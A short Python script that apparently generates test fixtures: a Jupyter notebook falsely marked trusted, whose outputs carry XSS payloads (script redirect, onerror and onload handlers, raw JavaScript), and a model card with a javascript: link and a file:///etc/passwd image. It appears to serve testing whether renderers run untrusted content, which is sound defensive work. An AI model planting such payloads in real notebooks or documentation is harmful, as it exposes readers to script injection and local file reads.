"""A notebook and a model card that run something when they are shown: scripts, links that look like others, cells that were never run."""

from attack import *

evil = "<img src=x onerror=alert(1)><script>top.location='http://127.0.0.1'</script>"
cell = {
    "cell_type": "code",
    "metadata": {"trusted": True},
    "execution_count": 1,
    "source": "1+1",
    "outputs": [
        {
            "output_type": "display_data",
            "data": {
                "text/html": evil,
                "application/javascript": "alert(1)",
                "image/svg+xml": f"<svg onload='{evil}'/>",
            },
            "metadata": {},
        }
    ],
}
(OUT / "notebook.ipynb").write_text(
    json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"signature": "x"}, "cells": [cell]})
)
(OUT / "MODEL_CARD.md").write_text(f"[a](javascript:alert(1)) {evil} ![x](file:///etc/passwd)")
done()
